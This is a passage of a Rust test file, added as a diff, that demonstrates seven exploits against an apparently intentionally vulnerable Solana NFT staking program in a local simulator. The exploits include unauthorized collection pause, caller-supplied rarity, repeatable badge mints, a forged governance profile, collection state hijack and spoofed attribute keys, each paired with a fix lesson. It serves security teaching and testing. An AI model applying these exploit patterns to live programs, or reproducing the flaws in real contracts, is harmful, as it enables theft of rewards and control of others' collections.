@@ -0,0 +1,1120 @@
+// Exploit tests for the vulnerable NFT staking program
+//
+// Each test demonstrates a vulnerability that the secure version rejects.
+
+mod utils;
+
+use litesvm::{types::TransactionResult, LiteSVM};
+use solana_sdk::{
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+};
+use soteria_test_kit::{run_exploit, send_ix, send_tx, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// Test 1: Anyone can rewrite a collection's staking config
+// Attacker pauses a collection they do not own, blocking all new stakes
+struct PauseForeignCollection;
+
+struct PauseState {
+    svm: LiteSVM,
+    authority: Keypair,
+    owner: Keypair,
+    attacker: Keypair,
+    collection: Keypair,
+    asset: Keypair,
+}
+
+impl ExploitScenario for PauseForeignCollection {
+    type State = PauseState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Unauthorized Collection Pause",
+            severity: Severity::Critical,
+            lesson: "Tie set_collection_config to the collection's recorded authority with has_one",
+        }
+    }
+
+    fn setup(&self) -> PauseState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let owner = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+
+        println!("[Setup] Authority: {}", authority.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Victim Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Victim NFT #1".to_string(),
+            "https://example.com/nft1.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+        println!("[Setup] Collection created and NFT minted to owner");
+
+        PauseState { svm, authority, owner, attacker, collection, asset }
+    }
+
+    fn exploit(&self, state: &mut PauseState) -> TransactionResult {
+        let (collection_state_pda, _) = derive_collection_state_pda(&state.collection.pubkey());
+
+        // Attacker signs as "authority" for a collection they don't control
+        println!("\n[Exploit] Attacker pauses the collection...");
+        let pause_ix = build_set_collection_config_ix(
+            &state.attacker.pubkey(),
+            &state.collection.pubkey(),
+            &collection_state_pda,
+            0,
+            true,
+        );
+        send_ix(&mut state.svm, pause_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut PauseState) -> u64 {
+        let PauseState { svm, authority, owner, collection, asset, .. } = state;
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+        println!("[Exploit] Pause accepted with no authority check");
+
+        // Legitimate owner can no longer stake
+        println!("\n[Impact] Owner tries to stake...");
+        let stake_ix = build_stake_ix(
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &owner.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_failure(svm, stake_ix, owner, &[&*owner, &*authority]);
+        println!("[Impact] Stake rejected - collection frozen by attacker");
+
+        // Staking is blocked; no tokens move
+        0
+    }
+}
+
+#[test]
+fn test_exploit_pause_foreign_collection() {
+    run_exploit(&PauseForeignCollection);
+}
+
+// Test 2: Rarity multiplier taken from instruction data
+// Owner of a plain NFT claims at the legendary multiplier
+struct RaritySpoofing;
+
+const REWARD_RATE: u64 = 10;
+const ONE_DAY: u64 = 24 * 60 * 60;
+
+struct RarityState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    collection: Keypair,
+    asset: Keypair,
+}
+
+impl ExploitScenario for RaritySpoofing {
+    type State = RarityState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Caller-Supplied Rarity",
+            severity: Severity::Critical,
+            lesson: "Read rarity from the asset's on-chain attributes, never from instruction data",
+        }
+    }
+
+    fn setup(&self) -> RarityState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection.pubkey());
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection.pubkey());
+        let (rarity_config_pda, _) = derive_rarity_config_pda(&collection.pubkey());
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Rarity Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &attacker.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Plain NFT".to_string(),
+            "https://example.com/nft.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+
+        let init_reward_ix = build_init_reward_config_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &reward_config_pda,
+            &reward_mint_pda,
+            REWARD_RATE,
+        );
+        send_tx_expect_success(&mut svm, init_reward_ix, &authority, &[&authority]);
+
+        let rarity_ix = build_set_rarity_config_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &rarity_config_pda,
+            &[("common", 10_000), ("legendary", 50_000)],
+        );
+        send_tx_expect_success(&mut svm, rarity_ix, &authority, &[&authority]);
+        println!("[Setup] Rewards at {} per second, legendary tier = 5x", REWARD_RATE);
+
+        let stake_ix = build_stake_ix(
+            &attacker.pubkey(),
+            &authority.pubkey(),
+            &attacker.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_success(&mut svm, stake_ix, &attacker, &[&attacker, &authority]);
+        advance_time(&mut svm, ONE_DAY);
+        println!("[Setup] Attacker staked a plain NFT (no rarity attribute) for one day");
+
+        RarityState { svm, attacker, collection, asset }
+    }
+
+    fn exploit(&self, state: &mut RarityState) -> TransactionResult {
+        let collection = state.collection.pubkey();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection);
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection);
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection);
+        let (rarity_config_pda, _) = derive_rarity_config_pda(&collection);
+
+        // Attacker claims as "legendary" even though the asset has no rarity
+        println!("\n[Exploit] Claiming with rarity = \"legendary\"...");
+        let claim_ix = build_claim_rewards_ix(
+            &state.attacker.pubkey(),
+            &state.asset.pubkey(),
+            &collection,
+            &collection_state_pda,
+            &reward_config_pda,
+            &rarity_config_pda,
+            &reward_mint_pda,
+            "legendary".to_string(),
+            None,
+        );
+        send_ix(&mut state.svm, claim_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut RarityState) -> u64 {
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&state.collection.pubkey());
+        let attacker_reward_account =
+            spl_associated_token_account::get_associated_token_address(&state.attacker.pubkey(), &reward_mint_pda);
+        let balance = get_token_balance(&state.svm, &attacker_reward_account);
+        assert_eq!(balance, 5 * ONE_DAY * REWARD_RATE);
+        println!("[Exploit] Minted {} instead of {}", balance, ONE_DAY * REWARD_RATE);
+
+        // Rewards minted beyond the common-tier amount
+        balance - ONE_DAY * REWARD_RATE
+    }
+}
+
+#[test]
+fn test_exploit_rarity_spoofing() {
+    run_exploit(&RaritySpoofing);
+}
+
+// Test 3: Milestone badge minted more than once
+// Badge record uses init_if_needed, so one 30-day stake yields any number of badges
+struct RepeatMilestoneBadge;
+
+const BADGE_MINTS: u64 = 5;
+
+struct BadgeState {
+    svm: LiteSVM,
+    owner: Keypair,
+    collection: Keypair,
+    asset: Keypair,
+    badges: Vec<Pubkey>,
+}
+
+impl RepeatMilestoneBadge {
+    fn send_mint(state: &mut BadgeState) -> TransactionResult {
+        let collection = state.collection.pubkey();
+        let asset = state.asset.pubkey();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection);
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset);
+        let (badge_record_pda, _) = derive_badge_record_pda(&asset, 0);
+        let badge = Keypair::new();
+
+        let mint_badge_ix = build_mint_milestone_badge_ix(
+            &state.owner.pubkey(),
+            &badge.pubkey(),
+            &asset,
+            &collection,
+            &collection_state_pda,
+            &stake_record_pda,
+            &badge_record_pda,
+            0,
+            "30-Day Staker".to_string(),
+            "https://example.com/badge.json".to_string(),
+        );
+        let result = send_tx(&mut state.svm, &[mint_badge_ix], &state.owner, &[&state.owner, &badge]);
+        state.badges.push(badge.pubkey());
+        result
+    }
+}
+
+impl ExploitScenario for RepeatMilestoneBadge {
+    type State = BadgeState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V003",
+            title: "Repeatable Milestone Badge",
+            severity: Severity::High,
+            lesson: "Create the per-milestone badge record with init so a second mint fails",
+        }
+    }
+
+    fn setup(&self) -> BadgeState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let owner = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Badge Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Badge NFT".to_string(),
+            "https://example.com/nft.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+
+        let stake_ix = build_stake_ix(
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &owner.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_success(&mut svm, stake_ix, &owner, &[&owner, &authority]);
+        advance_time(&mut svm, 30 * ONE_DAY);
+        println!("[Setup] Owner staked one NFT for 30 days (first milestone)");
+
+        BadgeState { svm, owner, collection, asset, badges: Vec::new() }
+    }
+
+    fn exploit(&self, state: &mut BadgeState) -> TransactionResult {
+        // Owner mints the 30-day badge again and again for the same stake
+        println!("\n[Exploit] Minting the 30-day badge {} times...", BADGE_MINTS);
+        for _ in 1..BADGE_MINTS {
+            let result = Self::send_mint(state);
+            assert!(result.is_ok(), "VULNERABILITY: Repeat badge mint accepted");
+        }
+
+        Self::send_mint(state)
+    }
+
+    fn assert_impact(&self, state: &mut BadgeState) -> u64 {
+        let minted = state
+            .badges
+            .iter()
+            .filter(|badge| state.svm.get_account(badge).is_some_and(|a| a.owner == MPL_CORE_ID))
+            .count() as u64;
+        assert_eq!(minted, BADGE_MINTS);
+        println!("[Exploit] {} soulbound 30-day badges minted for one stake", minted);
+
+        // Badges beyond the one the stake earned
+        minted - 1
+    }
+}
+
+#[test]
+fn test_exploit_repeat_milestone_badge() {
+    run_exploit(&RepeatMilestoneBadge);
+}
+
+// Test 4: Voter profile not tied to the governance program
+// Attacker with no governance reputation claims at the Leader tier using
+// a UserProfile-shaped account from a program they control
+struct ForgedVoterProfile;
+
+struct ProfileState {
+    svm: LiteSVM,
+    attacker: Keypair,
+    collection: Keypair,
+    asset: Keypair,
+    forged_profile: Pubkey,
+}
+
+impl ExploitScenario for ForgedVoterProfile {
+    type State = ProfileState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V004",
+            title: "Forged Governance Reputation",
+            severity: Severity::Critical,
+            lesson: "Check a foreign account's PDA derivation and owning program before trusting its data",
+        }
+    }
+
+    fn setup(&self) -> ProfileState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection.pubkey());
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection.pubkey());
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Reputation Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &attacker.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Plain NFT".to_string(),
+            "https://example.com/nft.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+
+        let init_reward_ix = build_init_reward_config_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &reward_config_pda,
+            &reward_mint_pda,
+            REWARD_RATE,
+        );
+        send_tx_expect_success(&mut svm, init_reward_ix, &authority, &[&authority]);
+
+        let stake_ix = build_stake_ix(
+            &attacker.pubkey(),
+            &authority.pubkey(),
+            &attacker.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_success(&mut svm, stake_ix, &attacker, &[&attacker, &authority]);
+        advance_time(&mut svm, ONE_DAY);
+        println!("[Setup] Attacker staked an NFT for one day at {} per second", REWARD_RATE);
+
+        // Written by a program the attacker deployed, not by governance
+        let forged_profile = Pubkey::new_unique();
+        let attacker_program = Pubkey::new_unique();
+        set_voter_profile(&mut svm, &forged_profile, &attacker_program, &attacker.pubkey(), 1_000);
+        println!("[Setup] Attacker created a UserProfile-shaped account with 1000 reputation");
+
+        ProfileState { svm, attacker, collection, asset, forged_profile }
+    }
+
+    fn exploit(&self, state: &mut ProfileState) -> TransactionResult {
+        let collection = state.collection.pubkey();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection);
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection);
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection);
+        let (rarity_config_pda, _) = derive_rarity_config_pda(&collection);
+
+        println!("\n[Exploit] Claiming with the forged profile...");
+        let claim_ix = build_claim_rewards_ix(
+            &state.attacker.pubkey(),
+            &state.asset.pubkey(),
+            &collection,
+            &collection_state_pda,
+            &reward_config_pda,
+            &rarity_config_pda,
+            &reward_mint_pda,
+            String::new(),
+            Some(&state.forged_profile),
+        );
+        send_ix(&mut state.svm, claim_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut ProfileState) -> u64 {
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&state.collection.pubkey());
+        let attacker_reward_account =
+            spl_associated_token_account::get_associated_token_address(&state.attacker.pubkey(), &reward_mint_pda);
+        let balance = get_token_balance(&state.svm, &attacker_reward_account);
+        assert_eq!(balance, 2 * ONE_DAY * REWARD_RATE, "Paid at the Leader tier");
+        println!("[Exploit] Minted {} instead of {}", balance, ONE_DAY * REWARD_RATE);
+
+        // Rewards minted beyond the 1x amount
+        balance - ONE_DAY * REWARD_RATE
+    }
+}
+
+#[test]
+fn test_exploit_forged_voter_profile() {
+    run_exploit(&ForgedVoterProfile);
+}
+
+// Test 5: Collection state migrated without the old authority
+// Attacker moves a live collection's staking state to their own collection,
+// taking over as its authority and collecting the old state's rent
+struct CollectionStateHijack;
+
+struct HijackState {
+    svm: LiteSVM,
+    authority: Keypair,
+    owner: Keypair,
+    attacker: Keypair,
+    collection: Keypair,
+    attacker_collection: Keypair,
+    state_rent: u64,
+    attacker_balance_before: u64,
+}
+
+impl ExploitScenario for CollectionStateHijack {
+    type State = HijackState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V005",
+            title: "Collection State Hijack",
+            severity: Severity::Critical,
+            lesson: "Require both the old and new update authorities to sign a collection migration",
+        }
+    }
+
+    fn setup(&self) -> HijackState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let owner = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let attacker = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let attacker_collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+
+        println!("[Setup] Authority: {}", authority.pubkey());
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Victim Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Victim NFT #1".to_string(),
+            "https://example.com/nft1.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+
+        let stake_ix = build_stake_ix(
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &owner.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_success(&mut svm, stake_ix, &owner, &[&owner, &authority]);
+        println!("[Setup] Collection created, owner staked one NFT");
+
+        create_mpl_collection(
+            &mut svm,
+            &attacker,
+            &attacker_collection,
+            "Attacker Collection",
+            "https://example.com/attacker.json",
+        );
+        println!("[Setup] Attacker created an empty collection of their own");
+
+        let state_rent = svm.get_account(&collection_state_pda).unwrap().lamports;
+        let attacker_balance_before = svm.get_balance(&attacker.pubkey()).unwrap();
+
+        HijackState {
+            svm,
+            authority,
+            owner,
+            attacker,
+            collection,
+            attacker_collection,
+            state_rent,
+            attacker_balance_before,
+        }
+    }
+
+    fn exploit(&self, state: &mut HijackState) -> TransactionResult {
+        // Attacker names themselves as the old authority without signing for it
+        // In secure version this fails with CollectionAuthorityMismatch
+        println!("\n[Exploit] Attacker migrates the victim's state to their collection...");
+        let migrate_ix = build_migrate_collection_state_ix(
+            &state.attacker.pubkey(),
+            &state.attacker.pubkey(),
+            &state.collection.pubkey(),
+            &state.attacker_collection.pubkey(),
+        );
+        send_ix(&mut state.svm, migrate_ix, &state.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut HijackState) -> u64 {
+        let HijackState {
+            svm,
+            authority,
+            owner,
+            attacker,
+            collection,
+            attacker_collection,
+            state_rent,
+            attacker_balance_before,
+        } = state;
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (hijacked_state_pda, _) = derive_collection_state_pda(&attacker_collection.pubkey());
+
+        let (new_authority, total_staked) = get_collection_state(svm, &hijacked_state_pda);
+        assert_eq!(new_authority, attacker.pubkey(), "Attacker is the collection authority");
+        assert_eq!(total_staked, 1, "Victim's staked counter moved with the state");
+        assert!(
+            svm.get_account(&collection_state_pda).is_none_or(|a| a.data.is_empty()),
+            "Victim's collection state closed"
+        );
+        println!("[Exploit] Attacker now controls the state tracking {} staked NFT", total_staked);
+
+        // The victim authority can no longer mint into their own collection
+        println!("\n[Impact] Authority tries to mint another NFT...");
+        let asset = Keypair::new();
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Victim NFT #2".to_string(),
+            "https://example.com/nft2.json".to_string(),
+        );
+        send_tx_expect_failure(svm, mint_nft_ix, authority, &[&*authority, &asset]);
+        println!("[Impact] Mint rejected - the collection has no staking state left");
+
+        // The new state's rent came from the attacker; the victim's state rent went to them
+        let attacker_balance = svm.get_balance(&attacker.pubkey()).unwrap();
+        println!(
+            "[Impact] Attacker balance {} -> {}, victim's {} lamports of rent collected",
+            attacker_balance_before, attacker_balance, state_rent
+        );
+
+        // Rent of the victim's state, paid out to the attacker
+        *state_rent
+    }
+}
+
+#[test]
+fn test_exploit_collection_state_hijack() {
+    run_exploit(&CollectionStateHijack);
+}
+
+// Test 6: Staking attributes located by substring
+// A trait whose key merely contains "staked" is read as the stake timestamp
+struct SpoofedStakingAttribute;
+
+const ONE_YEAR: u64 = 365 * ONE_DAY;
+
+struct SpoofState {
+    svm: LiteSVM,
+    authority: Keypair,
+    owner: Keypair,
+    collection: Keypair,
+    asset: Keypair,
+}
+
+impl ExploitScenario for SpoofedStakingAttribute {
+    type State = SpoofState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V006",
+            title: "Spoofed Staking Attribute Key",
+            severity: Severity::High,
+            lesson: "Match staking attribute keys exactly and reject duplicates or lookalikes",
+        }
+    }
+
+    fn setup(&self) -> SpoofState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let owner = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection.pubkey());
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection.pubkey());
+
+        // Start the clock at a realistic timestamp so "1" is decades in the past
+        advance_time(&mut svm, ONE_YEAR);
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Season Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Season NFT".to_string(),
+            "https://example.com/nft.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+
+        let init_reward_ix = build_init_reward_config_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &reward_config_pda,
+            &reward_mint_pda,
+            REWARD_RATE,
+        );
+        send_tx_expect_success(&mut svm, init_reward_ix, &authority, &[&authority]);
+
+        let stake_ix = build_stake_ix(
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &owner.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_success(&mut svm, stake_ix, &owner, &[&owner, &authority]);
+        advance_time(&mut svm, ONE_DAY);
+        println!("[Setup] Owner staked one NFT for one day");
+
+        SpoofState { svm, authority, owner, collection, asset }
+    }
+
+    fn exploit(&self, state: &mut SpoofState) -> TransactionResult {
+        let collection = state.collection.pubkey();
+        let asset = state.asset.pubkey();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection);
+        let clock: solana_sdk::clock::Clock = state.svm.get_sysvar();
+        let staked_at = (clock.unix_timestamp - ONE_DAY as i64).to_string();
+
+        // A season trait lands after the staking keys and shadows "staked"
+        println!("\n[Exploit] Asset tagged with staked_season = \"1\"...");
+        set_asset_attributes(
+            &mut state.svm,
+            &state.authority,
+            &asset,
+            &collection,
+            &[("staked", staked_at.as_str()), ("staked_time", "0"), ("staked_season", "1")],
+        );
+
+        println!("[Exploit] Unstaking...");
+        let unstake_ix = build_finalize_unstake_ix(
+            &state.owner.pubkey(),
+            &state.authority.pubkey(),
+            &state.owner.pubkey(),
+            &asset,
+            &collection,
+            &collection_state_pda,
+        );
+        send_tx(&mut state.svm, &[unstake_ix], &state.owner, &[&state.owner, &state.authority])
+    }
+
+    fn assert_impact(&self, state: &mut SpoofState) -> u64 {
+        let collection = state.collection.pubkey();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection);
+        let (reward_config_pda, _) = derive_reward_config_pda(&collection);
+        let (reward_mint_pda, _) = derive_reward_mint_pda(&collection);
+        let (rarity_config_pda, _) = derive_rarity_config_pda(&collection);
+        println!("[Exploit] Unstake credited staked_time from timestamp 1");
+
+        let claim_ix = build_claim_rewards_ix(
+            &state.owner.pubkey(),
+            &state.asset.pubkey(),
+            &collection,
+            &collection_state_pda,
+            &reward_config_pda,
+            &rarity_config_pda,
+            &reward_mint_pda,
+            String::new(),
+            None,
+        );
+        send_tx_expect_success(&mut state.svm, claim_ix, &state.owner, &[&state.owner]);
+
+        let owner_reward_account =
+            spl_associated_token_account::get_associated_token_address(&state.owner.pubkey(), &reward_mint_pda);
+        let balance = get_token_balance(&state.svm, &owner_reward_account);
+        assert!(balance > ONE_YEAR * REWARD_RATE, "VULNERABILITY: Spoofed key inflated staked time");
+        println!("[Impact] Claimed {} for one day of staking ({} expected)", balance, ONE_DAY * REWARD_RATE);
+
+        // Rewards minted beyond the one day actually staked
+        balance - ONE_DAY * REWARD_RATE
+    }
+}
+
+#[test]
+fn test_exploit_spoofed_staking_attribute() {
+    run_exploit(&SpoofedStakingAttribute);
+}
+
+// Test 7: Unstake cooldown recorded but never enforced
+// Owner requests and finalizes an unstake in one transaction, skipping the cooldown
+struct SkippedUnstakeCooldown;
+
+struct CooldownState {
+    svm: LiteSVM,
+    authority: Keypair,
+    owner: Keypair,
+    collection: Keypair,
+    asset: Keypair,
+}
+
+impl ExploitScenario for SkippedUnstakeCooldown {
+    type State = CooldownState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V007",
+            title: "Unstake Cooldown Not Enforced",
+            severity: Severity::High,
+            lesson: "Have finalize_unstake read the stake record and require its cooldown to have ended",
+        }
+    }
+
+    fn setup(&self) -> CooldownState {
+        let mut svm = setup_svm();
+        let authority = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let owner = create_funded_account(&mut svm, 10 * LAMPORTS_PER_SOL);
+        let collection = Keypair::new();
+        let asset = Keypair::new();
+        let (collection_state_pda, _) = derive_collection_state_pda(&collection.pubkey());
+        let (stake_record_pda, _) = derive_stake_record_pda(&asset.pubkey());
+
+        let create_collection_ix = build_create_collection_ix(
+            &authority.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Cooldown Collection".to_string(),
+            "https://example.com/collection.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, create_collection_ix, &authority, &[&authority, &collection]);
+
+        let mint_nft_ix = build_mint_nft_ix(
+            &authority.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &MPL_CORE_ID,
+            "Cooldown NFT".to_string(),
+            "https://example.com/nft.json".to_string(),
+        );
+        send_tx_expect_success(&mut svm, mint_nft_ix, &authority, &[&authority, &asset]);
+
+        let stake_ix = build_stake_ix(
+            &owner.pubkey(),
+            &authority.pubkey(),
+            &owner.pubkey(),
+            &asset.pubkey(),
+            &collection.pubkey(),
+            &collection_state_pda,
+            &stake_record_pda,
+            &MPL_CORE_ID,
+        );
+        send_tx_expect_success(&mut svm, stake_ix, &owner, &[&owner, &authority]);
+        advance_time(&mut svm, ONE_DAY);
+        println!("[Setup] Owner staked one NFT for one day");
+
+        CooldownState { svm, authority, owner, collection, asset }
+    }
+
+    fn exploit(&self, state: &mut CooldownState) -> TransactionResult {
+        let collection = state.collection.pubkey();
